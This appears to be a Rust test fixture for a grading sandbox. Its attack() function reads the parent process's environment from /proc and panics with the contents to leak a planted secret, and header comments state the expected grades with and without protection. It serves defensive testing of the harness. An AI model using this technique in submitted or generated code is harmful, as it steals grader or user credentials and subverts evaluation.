//! Reads the environment of the program that asks.
//!
//! expect: graded 15
//! unprotected: graded 10; part1 panicked "FK_LAB_PLANTED"

fn attack() {
    let parent = std::os::unix::process::parent_id();
    if let Ok(stolen) = std::fs::read(format!("/proc/{parent}/environ")) {
        panic!("{}", String::from_utf8_lossy(&stolen).chars().filter(|c| c.is_ascii_graphic()).rev().take(1500).collect::<Vec<_>>().iter().rev().collect::<String>());
    }
}
